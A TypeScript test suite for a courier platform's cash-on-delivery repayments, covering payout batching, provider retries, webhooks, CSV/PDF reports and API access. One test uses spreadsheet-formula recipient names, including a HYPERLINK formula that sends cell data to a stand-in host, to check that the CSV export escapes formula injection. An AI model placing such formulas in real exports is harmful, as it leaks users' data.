// Cash on delivery, from the parcel to the bank: a delivered parcel with ramburs becomes one pending
// repayment in the transaction of its delivered status (recorded twice: still one); a returned one
// none (a pending one is cancelled); the IBAN from the order, else the default billing address, else
// the repayment waits; the payout batch groups per account and IBAN; the 'payout.send' job pays
// through the provider (simulated by default, the HTTP adapter against a local server), a failure is
// visible and retried with backoff, then from the dashboard after the last attempt; paid: repayments
// paid and the webhook events queued in one transaction; the CSV and PDF reports; the private API.
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { and, eq, sql } from 'drizzle-orm';
import type { FastifyInstance } from 'fastify';
import { extractText } from 'unpdf';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addresses, orders, payouts, repayments, webhookDeliveries, webhookEndpoints } from '../../server/db/schema.ts';
import { loadConfig } from '../../server/config/index.ts';
import { payoutsOf } from '../../server/app/payouts.ts';
import { retryJob } from '../../server/services/jobs/admin.ts';
import { HttpPayoutProvider } from '../../server/services/repayments/http-payout-provider.ts';
import type { PayoutProvider, TransferRequest, TransferResult } from '../../server/services/repayments/payout-provider.ts';
import { batchPayouts, payoutJobKey, sendPayout } from '../../server/services/repayments/payouts.ts';
import { settleCashOnDelivery } from '../../server/services/repayments/record.ts';
import { payoutCsv, payoutPdf } from '../../server/services/repayments/report.ts';
import { findPayout } from '../../server/services/repayments/queries.ts';
import { SimulatedPayoutProvider } from '../../server/services/repayments/simulated-payout-provider.ts';
import { authHarness, registerCustomer, type AuthHarness, type TokenAnswer } from './helpers/auth.ts';
import { testDatabases } from './helpers/databases.ts';
import { jobOf, jobsOf, makeDue } from './helpers/jobs.ts';
import { api } from './helpers/orders.ts';
import { finish, placeCodOrder, roIban, type CodOrder } from './helpers/repayments.ts';

const FAILING = roIban(666);

/** A provider that answers from a script (then the last answer again), recording the requests. */
function scripted(...answers: (TransferResult | Error)[]): PayoutProvider & { requests: TransferRequest[] } {
  const requests: TransferRequest[] = [];
  return {
    name: 'scripted',
    simulated: false,
    requests,
    async transfer(request) {
      requests.push(request);
      const answer = answers.length > 1 ? answers.shift()! : answers[0]!;
      if (answer instanceof Error) throw answer;
      return answer;
    },
  };
}

describe('the payout configuration', () => {
  it('defaults to a daily batch and the simulated provider; the provider URL and key go together', () => {
    expect(loadConfig({}).payouts).toEqual({ intervalSeconds: 86_400, providerUrl: null, providerKey: null, simulatedFailingIban: null });
    expect(loadConfig({ PAYOUT_PROVIDER_URL: 'https://plati.example/v1/', PAYOUT_PROVIDER_KEY: 'k', PAYOUT_SIMULATED_FAILING_IBAN: 'ro49 aaaa 1b31 0075 9384 0000' }).payouts).toEqual({
      intervalSeconds: 86_400,
      providerUrl: 'https://plati.example/v1',
      providerKey: 'k',
      simulatedFailingIban: 'RO49AAAA1B31007593840000',
    });
    expect(() => loadConfig({ PAYOUT_PROVIDER_URL: 'https://plati.example' })).toThrow(/PAYOUT_PROVIDER_KEY must be set too/);
    expect(() => loadConfig({ PAYOUT_PROVIDER_KEY: 'k' })).toThrow(/PAYOUT_PROVIDER_URL must be set too/);
    expect(() => loadConfig({ PAYOUT_INTERVAL_SECONDS: 'daily' })).toThrow(/PAYOUT_INTERVAL_SECONDS must be an integer/);
  });
});

describe.each(testDatabases())('cash on delivery on $name', (backend) => {
  let h: AuthHarness;
  let app: FastifyInstance;
  beforeAll(async () => {
    h = await authHarness(backend, { PAYOUT_SIMULATED_FAILING_IBAN: FAILING, PAYOUT_INTERVAL_SECONDS: '0' });
    app = h.app;
  });
  afterAll(async () => h?.close());

  const repaymentsOf = (orderId: number) => h.db.select().from(repayments).where(eq(repayments.orderId, orderId));
  const payoutOf = async (id: number) => (await h.db.select().from(payouts).where(eq(payouts.id, id)))[0]!;
  /** A new account with `count` delivered COD parcels to `iban`. */
  const shop = async () => registerCustomer(app);
  const delivered = async (who: TokenAnswer, options: Parameters<typeof placeCodOrder>[2] = {}): Promise<CodOrder> => {
    const order = await placeCodOrder(app, who.access_token, options);
    await finish(app, order, 'delivered');
    return order;
  };
  const provider = () => payoutsOf(app);
  const withProvider = async <T>(next: PayoutProvider, run: () => Promise<T>): Promise<T> => {
    const ctx = provider();
    const before = ctx.provider;
    ctx.provider = next;
    try {
      return await run();
    } finally {
      ctx.provider = before;
    }
  };

  describe('recording', () => {
    it('records one pending repayment when a COD parcel is delivered, in the transaction of its delivered status', async () => {
      const who = await shop();
      const order = await placeCodOrder(app, who.access_token, { lei: 250.5, iban: 'ro49 aaaa 1b31 0075 9384 0000', holder: 'Magazin Verde SRL' });
      expect(await repaymentsOf(order.orderId)).toEqual([]);
      const at = new Date(Date.now() - 3_600_000);
      const { change } = await finish(app, order, 'delivered', at);
      expect(change?.to).toBe('delivered');
      const [row, ...more] = await repaymentsOf(order.orderId);
      expect(more).toEqual([]);
      expect(row).toMatchObject({
        customerId: who.customer.id,
        awb: order.awb,
        carrierId: 6,
        amountBani: 25050,
        currency: 'RON',
        status: 'pending',
        payoutId: null,
        bankIban: 'RO49AAAA1B31007593840000',
        bankHolder: 'Magazin Verde SRL',
        recipientName: 'Ion Țăranu',
        deliveredAt: at,
      });
      // The carrier reports it all again; the recording runs again: still one.
      await finish(app, order, 'delivered', at);
      await h.db.transaction((tx) => settleCashOnDelivery(tx, order.orderId, 'delivered'));
      expect(await repaymentsOf(order.orderId)).toHaveLength(1);
    });

    it('records none for a parcel without ramburs, or one that came back; a pending one becomes cancelled', async () => {
      const who = await shop();
      const plain = await placeCodOrder(app, who.access_token, { lei: 0 });
      await finish(app, plain, 'delivered');
      expect(await repaymentsOf(plain.orderId)).toEqual([]);

      const back = await placeCodOrder(app, who.access_token);
      await finish(app, back, 'returned');
      expect(await repaymentsOf(back.orderId)).toEqual([]);
      expect((await h.db.select({ status: orders.status }).from(orders).where(eq(orders.id, back.orderId)))[0]?.status).toBe('returned');

      // Had one been recorded (a carrier that said delivered, then corrected itself), it is cancelled.
      await h.db.transaction((tx) => settleCashOnDelivery(tx, back.orderId, 'delivered'));
      expect((await repaymentsOf(back.orderId))[0]?.status).toBe('pending');
      await h.db.transaction((tx) => settleCashOnDelivery(tx, back.orderId, 'returned'));
      expect((await repaymentsOf(back.orderId))[0]?.status).toBe('cancelled');
    });

    it("takes the default billing address's IBAN when the order has none; without any, the repayment waits for one", async () => {
      const who = await shop();
      const order = await placeCodOrder(app, who.access_token);
      // An order whose price request had no bank account (the public API with a default billing address).
      await h.db
        .update(orders)
        .set({ priceRequest: sql`${orders.priceRequest} #- '{extra,bank_iban}' #- '{extra,bank_holder}'` })
        .where(eq(orders.id, order.orderId));
      await finish(app, order, 'delivered');
      const [waiting] = await repaymentsOf(order.orderId);
      expect(waiting).toMatchObject({ status: 'pending', bankIban: '', bankHolder: '' });

      const list = await api(app, 'GET', 'repayments', { token: who.access_token });
      expect(list.json().data[0]).toMatchObject({ awaiting_iban: true, bank_iban: '' });
      expect(list.json().totals).toMatchObject({ collected_bani: 25050, waiting_bani: 25050, awaiting_iban_bani: 25050, paid_bani: 0 });
      // The batch leaves it waiting...
      await batchPayouts(h.db);
      expect((await repaymentsOf(order.orderId))[0]?.payoutId).toBeNull();

      // ...until the account has a default billing address with an IBAN: the next batch fills it in and pays it.
      await h.db.insert(addresses).values({
        customerId: who.customer.id,
        kind: 'billing',
        addressType: 'business',
        localityId: 54984,
        contact: 'Ana Popescu',
        company: 'Librăria Ștefan SRL',
        bankIban: roIban(77),
        isDefault: true,
      });
      const second = await placeCodOrder(app, who.access_token, { lei: 10 });
      await h.db
        .update(orders)
        .set({ priceRequest: sql`${orders.priceRequest} #- '{extra,bank_iban}'` })
        .where(eq(orders.id, second.orderId));
      await finish(app, second, 'delivered');
      expect((await repaymentsOf(second.orderId))[0]).toMatchObject({ bankIban: roIban(77), bankHolder: 'Librăria Ștefan SRL' });

      const made = await batchPayouts(h.db);
      const mine = (await Promise.all(made.map(payoutOf))).filter((p) => p.customerId === who.customer.id);
      expect(mine).toHaveLength(1);
      expect(mine[0]).toMatchObject({ bankIban: roIban(77), bankHolder: 'Librăria Ștefan SRL', amountBani: 26050, status: 'pending' });
    });
  });

  describe('payouts', () => {
    it('groups the pending repayments per account and IBAN into one payout each, once', async () => {
      const [ana, ion] = [await shop(), await shop()];
      const a1 = await delivered(ana, { lei: 100, iban: roIban(11) });
      const a2 = await delivered(ana, { lei: 50.25, iban: roIban(11) });
      const a3 = await delivered(ana, { lei: 20, iban: roIban(12), holder: 'Ana Popescu PFA' });
      const i1 = await delivered(ion, { lei: 7, iban: roIban(11) });

      const made = await batchPayouts(h.db);
      const rows = await Promise.all(made.map(payoutOf));
      const of = (who: TokenAnswer, iban: string) => rows.filter((p) => p.customerId === who.customer.id && p.bankIban === iban);
      expect(of(ana, roIban(11))).toEqual([expect.objectContaining({ amountBani: 15025, status: 'pending', bankHolder: 'Magazin Verde SRL' })]);
      expect(of(ana, roIban(12))).toEqual([expect.objectContaining({ amountBani: 2000, bankHolder: 'Ana Popescu PFA' })]);
      expect(of(ion, roIban(11))).toEqual([expect.objectContaining({ amountBani: 700 })]);
      for (const [order, payout] of [
        [a1, of(ana, roIban(11))[0]!],
        [a2, of(ana, roIban(11))[0]!],
        [a3, of(ana, roIban(12))[0]!],
        [i1, of(ion, roIban(11))[0]!],
      ] as const) {
        expect((await repaymentsOf(order.orderId))[0]?.payoutId).toBe(payout.id);
        expect(await jobOf(h.db, 'payout.send', payoutJobKey(payout.id))).toMatchObject({ state: 'queued', payload: { payoutId: payout.id } });
      }
      // Nothing left to group.
      expect(await batchPayouts(h.db)).toEqual([]);
    });

    it('pays a payout: paid with its repayments, and the repayment.paid and payout.paid events queued', async () => {
      const who = await shop();
      const [endpoint] = await h.db
        .insert(webhookEndpoints)
        .values({ customerId: who.customer.id, url: 'http://127.0.0.1:9/webhooks', events: ['repayment.paid', 'payout.paid'], secret: 'whsec_test' })
        .returning();
      const one = await delivered(who, { lei: 120, iban: roIban(21) });
      const two = await delivered(who, { lei: 80.5, iban: roIban(21) });
      await batchPayouts(h.db);
      const payoutId = (await repaymentsOf(one.orderId))[0]!.payoutId!;
      expect((await payoutOf(payoutId)).status).toBe('pending');
      // Only the payout's job: the webhook deliveries it queues stay queued, to be looked at.
      expect(await app.jobs.runNow('payout.send', payoutJobKey(payoutId))).toBe('done');

      const paid = await payoutOf(payoutId);
      expect(paid).toMatchObject({ status: 'paid', amountBani: 20050, attempts: 1, failureReason: null });
      expect(paid.transferReference).toMatch(/^SIM-[0-9A-F]{16}$/);
      expect(paid.paidAt).toBeInstanceOf(Date);
      for (const order of [one, two]) expect((await repaymentsOf(order.orderId))[0]?.status).toBe('paid');

      const deliveries = await h.db.select().from(webhookDeliveries).where(eq(webhookDeliveries.endpointId, endpoint!.id)).orderBy(webhookDeliveries.id);
      expect(deliveries.map((d) => d.eventType)).toEqual(['repayment.paid', 'repayment.paid', 'payout.paid']);
      expect(deliveries[0]!.payload).toMatchObject({
        type: 'repayment.paid',
        data: { awb: one.awb, order_id: one.orderId, repayment_amount: 120, repayment_currency: 'RON', status: 'paid', payout_id: payoutId, bank_iban: roIban(21) },
      });
      expect(deliveries[2]!.payload).toMatchObject({ type: 'payout.paid', data: { payout_id: payoutId, repayment_amount: 200.5, status: 'paid', repayments_count: 2 } });
      const deliveryJobs = (await jobsOf(h.db, 'webhook.deliver')).filter((j) => deliveries.some((d) => j.payload.deliveryId === d.id));
      expect(deliveryJobs.map((j) => j.state)).toEqual(['queued', 'queued', 'queued']);

      // The job run again (a lease lost under a slow bank): nothing changes, no second event.
      await sendPayout(payoutsOf(app), { payoutId }, { lastAttempt: false });
      expect(await payoutOf(payoutId)).toMatchObject({ status: 'paid', attempts: 1 });
      expect(await h.db.select().from(webhookDeliveries).where(eq(webhookDeliveries.endpointId, endpoint!.id))).toHaveLength(3);
    });

    it('a refused payout is failed with its reason and retried with backoff, then paid', async () => {
      const who = await shop();
      const order = await delivered(who, { lei: 99, iban: FAILING });
      await batchPayouts(h.db);
      const payoutId = (await repaymentsOf(order.orderId))[0]!.payoutId!;
      await app.jobs.drain();

      const failed = await payoutOf(payoutId);
      expect(failed).toMatchObject({ status: 'failed', attempts: 1, paidAt: null });
      expect(failed.failureReason).toBe('Banca a refuzat plata: contul destinatar este blocat. Reîncercăm automat.');
      const job = (await jobOf(h.db, 'payout.send', payoutJobKey(payoutId)))!;
      expect(job).toMatchObject({ state: 'queued', attempts: 1 });
      expect(job.runInSeconds).toBeGreaterThan(30);
      expect((await repaymentsOf(order.orderId))[0]?.status).toBe('pending');

      // The bank accepts it at the next attempt.
      await withProvider(new SimulatedPayoutProvider(), async () => {
        await makeDue(h.db, 'payout.send', payoutJobKey(payoutId));
        await app.jobs.drain();
      });
      expect(await payoutOf(payoutId)).toMatchObject({ status: 'paid', attempts: 2, failureReason: null });
      expect((await repaymentsOf(order.orderId))[0]?.status).toBe('paid');
    });

    it('after the last attempt the payout stays failed, visible; the dashboard sends it again', async () => {
      const who = await shop();
      const order = await delivered(who, { lei: 42, iban: roIban(31) });
      await batchPayouts(h.db);
      const payoutId = (await repaymentsOf(order.orderId))[0]!.payoutId!;
      const down = scripted(new Error('ECONNRESET'));
      await withProvider(down, async () => {
        const job = (await jobOf(h.db, 'payout.send', payoutJobKey(payoutId)))!;
        await h.db.execute(sql`update jobs set attempts = max_attempts - 1 where id = ${job.id}`);
        await app.jobs.drain();
      });
      expect(down.requests).toEqual([expect.objectContaining({ idempotencyKey: `payout-${payoutId}`, amountBani: 4200, iban: roIban(31), holder: 'Magazin Verde SRL' })]);
      expect(await jobOf(h.db, 'payout.send', payoutJobKey(payoutId))).toMatchObject({ state: 'failed' });
      const failed = await payoutOf(payoutId);
      expect(failed.status).toBe('failed');
      expect(failed.failureReason).toMatch(/^Serviciul de plăți al băncii nu a răspuns\. Nu mai reîncercăm automat/);

      const list = await api(app, 'GET', 'repayments/payouts', { token: who.access_token });
      expect(list.json().data[0]).toMatchObject({ id: payoutId, status: 'failed', failure_reason: failed.failureReason, simulated: true });

      const retried = await api(app, 'POST', `repayments/payouts/${payoutId}/retry`, { token: who.access_token });
      expect(retried.statusCode).toBe(200);
      expect(retried.json()).toMatchObject({ data: { id: payoutId, status: 'pending', failure_reason: null }, message: 'Decontul a fost retrimis la bancă.' });
      expect(await jobOf(h.db, 'payout.send', payoutJobKey(payoutId))).toMatchObject({ state: 'queued', attempts: 0 });
      await app.jobs.drain();
      expect(await payoutOf(payoutId)).toMatchObject({ status: 'paid' });
      // Paid: nothing to retry; another account's: not found.
      expect((await api(app, 'POST', `repayments/payouts/${payoutId}/retry`, { token: who.access_token })).json()).toMatchObject({ reason: 'payout_not_failed' });
      const other = await shop();
      expect((await api(app, 'POST', `repayments/payouts/${payoutId}/retry`, { token: other.access_token })).statusCode).toBe(404);
    });

    it('an invalid IBAN is refused for good: failed at once, not retried', async () => {
      const who = await shop();
      const order = await delivered(who, { lei: 5 });
      await h.db.update(repayments).set({ bankIban: 'RO00AAAA0000000000000000' }).where(eq(repayments.orderId, order.orderId));
      await batchPayouts(h.db);
      const payoutId = (await repaymentsOf(order.orderId))[0]!.payoutId!;
      await app.jobs.drain();
      expect(await payoutOf(payoutId)).toMatchObject({ status: 'failed', failureReason: 'IBAN-ul nu este valid. Verifică IBAN-ul din comandă sau din adresa de facturare.' });
      expect(await jobOf(h.db, 'payout.send', payoutJobKey(payoutId))).toMatchObject({ state: 'failed', attempts: 1 });
    });
  });

  describe('the HTTP payout provider', () => {
    let server: Server;
    let url: string;
    const seen: { headers: IncomingMessage['headers']; body: Record<string, unknown> }[] = [];
    let answers: { status: number; body: unknown }[] = [];
    beforeAll(async () => {
      server = createServer((req, res) => {
        let raw = '';
        req.on('data', (chunk: Buffer) => (raw += chunk.toString()));
        req.on('end', () => {
          seen.push({ headers: req.headers, body: JSON.parse(raw) as Record<string, unknown> });
          const answer = answers.length > 1 ? answers.shift()! : answers[0]!;
          res.writeHead(answer.status, { 'content-type': 'application/json' }).end(JSON.stringify(answer.body));
        });
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1/`;
    });
    afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

    it('sends the wire format with our payout id as the idempotency key; 5xx and processing are asked again, completed is paid', async () => {
      const who = await shop();
      const order = await delivered(who, { lei: 1234.5, iban: roIban(41), holder: 'Ștefan Țurcanu' });
      await batchPayouts(h.db);
      const payoutId = (await repaymentsOf(order.orderId))[0]!.payoutId!;
      answers = [
        { status: 503, body: { error: 'maintenance' } },
        { status: 202, body: { id: 'tr_123', status: 'processing' } },
        { status: 200, body: { id: 'tr_123', status: 'completed' } },
      ];
      seen.length = 0;
      await withProvider(new HttpPayoutProvider({ url, key: 'pk_test_secret' }), async () => {
        await app.jobs.drain();
        expect(await payoutOf(payoutId)).toMatchObject({ status: 'failed', failureReason: 'Serviciul de plăți al băncii nu a răspuns. Reîncercăm automat.' });
        await makeDue(h.db, 'payout.send', payoutJobKey(payoutId));
        await app.jobs.drain();
        expect(await payoutOf(payoutId)).toMatchObject({ status: 'processing', transferReference: 'tr_123' });
        expect((await jobOf(h.db, 'payout.send', payoutJobKey(payoutId)))!.runInSeconds).toBeGreaterThan(10 * 60);
        await makeDue(h.db, 'payout.send', payoutJobKey(payoutId));
        await app.jobs.drain();
      });
      expect(await payoutOf(payoutId)).toMatchObject({ status: 'paid', transferReference: 'tr_123', attempts: 3 });
      expect(seen).toHaveLength(3);
      for (const request of seen) {
        expect(request.headers).toMatchObject({ authorization: 'Bearer pk_test_secret', 'idempotency-key': `payout-${payoutId}`, 'content-type': 'application/json' });
        expect(request.body).toEqual({
          amount: 123450,
          currency: 'RON',
          iban: roIban(41),
          holder: 'Ștefan Țurcanu',
          reference: `payout-${payoutId}`,
          description: `Rambursuri Curiero, decont ${payoutId}`,
        });
      }
    });

    it('a rejection with a permanent code fails the payout for good with its Romanian reason', async () => {
      const who = await shop();
      const order = await delivered(who, { lei: 3, iban: roIban(42) });
      await batchPayouts(h.db);
      const payoutId = (await repaymentsOf(order.orderId))[0]!.payoutId!;
      answers = [{ status: 422, body: { status: 'rejected', failure_code: 'account_closed' } }];
      await withProvider(new HttpPayoutProvider({ url, key: 'pk' }), () => app.jobs.drain());
      expect(await payoutOf(payoutId)).toMatchObject({ status: 'failed', failureReason: 'Contul bancar al IBAN-ului este închis.' });
      const job = (await jobOf(h.db, 'payout.send', payoutJobKey(payoutId)))!;
      expect(job).toMatchObject({ state: 'failed', attempts: 1 });

      // The account was reopened: an operator retries the job (npm run jobs -- retry ID).
      answers = [{ status: 200, body: { id: 'tr_9', status: 'completed' } }];
      expect(await retryJob(h.db, job.id)).toBe(true);
      await withProvider(new HttpPayoutProvider({ url, key: 'pk' }), () => app.jobs.drain());
      expect(await payoutOf(payoutId)).toMatchObject({ status: 'paid', transferReference: 'tr_9', failureReason: null });
      expect((await repaymentsOf(order.orderId))[0]?.status).toBe('paid');
    });
  });

  describe('reports', () => {
    it('CSV: the lines and the total; PDF: a document whose text has the AWBs, names with ș and ț, and the total', async () => {
      const who = await shop();
      const one = await delivered(who, { lei: 1234.5, iban: roIban(51) });
      const two = await delivered(who, { lei: 0.5, iban: roIban(51) });
      await batchPayouts(h.db);
      const payoutId = (await repaymentsOf(one.orderId))[0]!.payoutId!;
      const found = (await findPayout(h.db, who.customer.id, payoutId))!;
      expect(await findPayout(h.db, who.customer.id + 100_000, payoutId)).toBeNull();

      const csv = payoutCsv(found);
      expect(csv.startsWith('\uFEFF')).toBe(true);
      const lines = csv.slice(1).trimEnd().split('\r\n');
      expect(lines[0]).toBe('AWB;Comandă;Destinatar;Data livrării;Sumă (lei)');
      expect(lines).toHaveLength(4);
      expect(lines[1]).toMatch(new RegExp(`^${one.awb};CUR-[^;]+;Ion Țăranu;\\d{2}\\.\\d{2}\\.\\d{4};1234,50$`));
      expect(lines[2]).toMatch(new RegExp(`^${two.awb};[^;]+;Ion Țăranu;[^;]+;0,50$`));
      expect(lines[3]).toBe(`Total decont ${payoutId};2 colete;;;1235,00`);

      const pdf = await payoutPdf(found, { providerSimulated: true });
      expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
      const { text } = await extractText(new Uint8Array(pdf), { mergePages: true });
      for (const expected of [one.awb, two.awb, `Decont rambursuri nr. ${payoutId}`, 'Ion Țăranu', '1.234,50 lei', '1.235,00 lei', 'Total: 2 colete', 'Plată simulată']) {
        expect(text).toContain(expected);
      }
    });

    it('CSV: a recipient named like a formula (=HYPERLINK, @, +, -) is written as text, amounts stay numbers', async () => {
      const who = await shop();
      const names = ['=HYPERLINK("https://rau.example/?d="&A1;"Detalii")', '@SUM(1+1)', '+40 722 000 000', '-2+3'];
      const placed = [];
      for (const _ of names) placed.push(await delivered(who, { lei: 10, iban: roIban(52) }));
      for (const [i, order] of placed.entries()) {
        await h.db.update(repayments).set({ recipientName: names[i]! }).where(eq(repayments.orderId, order.orderId));
      }
      await batchPayouts(h.db);
      const payoutId = (await repaymentsOf(placed[0]!.orderId))[0]!.payoutId!;
      const csv = payoutCsv((await findPayout(h.db, who.customer.id, payoutId))!);
      expect(csv).toContain(`;"'=HYPERLINK(""https://rau.example/?d=""&A1;""Detalii"")";`);
      for (const name of names.slice(1)) expect(csv).toContain(`;'${name};`);
      expect(csv).toContain(';10,00\r\n');
      expect(csv).not.toMatch(/;[=+@-]/);
    });

    it('downloads through the private API: the owner with a bearer or a signed link, nobody else', async () => {
      const who = await shop();
      const order = await delivered(who, { lei: 10, iban: roIban(52) });
      await batchPayouts(h.db);
      const payoutId = (await repaymentsOf(order.orderId))[0]!.payoutId!;
      const csv = await api(app, 'GET', `repayments/payouts/${payoutId}/report.csv`, { token: who.access_token });
      expect(csv.statusCode).toBe(200);
      expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(csv.headers['content-disposition']).toBe(`attachment; filename="decont-rambursuri-${payoutId}.csv"`);
      expect(csv.body).toContain(order.awb);
      const pdf = await api(app, 'GET', `repayments/payouts/${payoutId}/report.pdf`, { token: who.access_token });
      expect(pdf.headers['content-type']).toBe('application/pdf');
      expect(pdf.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');

      const link = await api(app, 'GET', `repayments/payouts/${payoutId}/report-link`, { token: who.access_token, headers: {} });
      const { download_url: csvUrl } = link.json().data.csv as { download_url: string };
      const signed = await app.inject({ method: 'GET', url: csvUrl.replace('http://curiero.test', '') });
      expect(signed.statusCode).toBe(200);
      expect(signed.body).toContain(order.awb);
      const tampered = await app.inject({ method: 'GET', url: csvUrl.replace('http://curiero.test', '').replace(/signature=[^&]+/, 'signature=AAAA') });
      expect(tampered.statusCode).toBe(403);
      const other = await shop();
      for (const path of [`repayments/payouts/${payoutId}/report.csv`, `repayments/payouts/${payoutId}`, `repayments/payouts/${payoutId}/report-link`]) {
        expect((await api(app, 'GET', path, { token: other.access_token })).statusCode).toBe(404);
      }
      expect((await api(app, 'GET', `repayments/payouts/${payoutId}/report.csv`)).statusCode).toBe(401);
    });
  });

  describe('the private API', () => {
    it('lists the repayments newest first with filters (status, delivery days, AWB) and the totals', async () => {
      const who = await shop();
      const old = await placeCodOrder(app, who.access_token, { lei: 10, iban: roIban(61) });
      await finish(app, old, 'delivered', new Date('2025-03-01T10:00:00Z'));
      const paidOne = await delivered(who, { lei: 20, iban: roIban(61) });
      await batchPayouts(h.db);
      await app.jobs.drain();
      const fresh = await delivered(who, { lei: 30.25, iban: roIban(61) });

      const all = await api(app, 'GET', 'repayments', { token: who.access_token });
      expect(all.statusCode).toBe(200);
      const body = all.json();
      expect(body.data.map((r: { awb: string }) => r.awb)).toEqual([fresh.awb, paidOne.awb, old.awb]);
      expect(body.data[0]).toEqual({
        id: expect.any(Number),
        order_id: fresh.orderId,
        order_number: expect.any(String),
        awb: fresh.awb,
        carrier_id: 6,
        carrier_name: 'Sameday',
        amount_bani: 3025,
        amount: 30.25,
        currency: 'RON',
        status: 'pending',
        payout_id: null,
        payout_status: null,
        bank_iban: roIban(61),
        bank_holder: 'Magazin Verde SRL',
        awaiting_iban: false,
        recipient_name: 'Ion Țăranu',
        delivered_at: expect.any(String),
        test_mode: false,
      });
      expect(body.data[1]).toMatchObject({ status: 'paid', payout_status: 'paid' });
      expect(body.totals).toEqual({ count: 3, collected_bani: 6025, paid_bani: 3000, waiting_bani: 3025, awaiting_iban_bani: 0, refunded_bani: 0 });
      expect(body.meta).toMatchObject({ total: 3, current_page: 1, per_page: 15 });
      expect(body.payout_provider).toEqual({ simulated: true });

      const q = (query: string) => api(app, 'GET', `repayments?${query}`, { token: who.access_token }).then((r) => r.json());
      expect((await q('status=paid')).data.map((r: { awb: string }) => r.awb)).toEqual([paidOne.awb, old.awb]);
      expect((await q('status=paid')).totals.collected_bani).toBe(6025);
      expect((await q(`awb=${fresh.awb}`)).data).toHaveLength(1);
      const march = await q('from=2025-03-01&to=2025-03-01');
      expect(march.data.map((r: { awb: string }) => r.awb)).toEqual([old.awb]);
      expect(march.totals).toMatchObject({ count: 1, collected_bani: 1000 });
      expect((await q('from=2025-03-02&to=2025-03-31')).data).toEqual([]);
      const bad = await api(app, 'GET', 'repayments?status=lost&from=2025-13-01&to=x', { token: who.access_token });
      expect(bad.statusCode).toBe(422);
      expect(Object.keys(bad.json().errors).sort()).toEqual(['from', 'status', 'to']);
      for (const query of ['from=0000-01-01', 'to=2025-02-30', 'from=2025-03-02&to=2025-03-01', 'awb=AWB%20123%3B', 'order_id=-1', 'page=0']) {
        expect((await api(app, 'GET', `repayments?${query}`, { token: who.access_token })).statusCode, query).toBe(422);
      }
      expect((await api(app, 'GET', 'repayments?page=999999&per_page=200', { token: who.access_token })).json().data).toEqual([]);
      expect((await api(app, 'GET', 'repayments/payouts/999999999999999', { token: who.access_token })).statusCode).toBe(404);
      expect((await api(app, 'GET', 'repayments/payouts/99999999999999999999', { token: who.access_token })).statusCode).toBe(404);
      // Another account sees none of it.
      const other = await shop();
      expect((await api(app, 'GET', 'repayments', { token: other.access_token })).json()).toMatchObject({ data: [], totals: { count: 0 } });
    });

    it('shows a payout with its lines', async () => {
      const who = await shop();
      const order = await delivered(who, { lei: 15, iban: roIban(62) });
      await batchPayouts(h.db);
      const payoutId = (await repaymentsOf(order.orderId))[0]!.payoutId!;
      const one = await api(app, 'GET', `repayments/payouts/${payoutId}`, { token: who.access_token });
      expect(one.statusCode).toBe(200);
      expect(one.json().data).toMatchObject({ id: payoutId, status: 'pending', amount_bani: 1500, amount: 15, bank_iban: roIban(62), repayments_count: 1, simulated: true });
      expect(one.json().data.lines).toEqual([expect.objectContaining({ awb: order.awb, amount_bani: 1500, payout_id: payoutId })]);
      expect((await api(app, 'GET', 'repayments/payouts/abc', { token: who.access_token })).statusCode).toBe(404);
      const mine = await h.db.select({ n: sql<number>`count(*)::int` }).from(payouts).where(and(eq(payouts.customerId, who.customer.id)));
      expect((await api(app, 'GET', 'repayments/payouts', { token: who.access_token })).json().meta.total).toBe(mine[0]!.n);
    });
  });
});
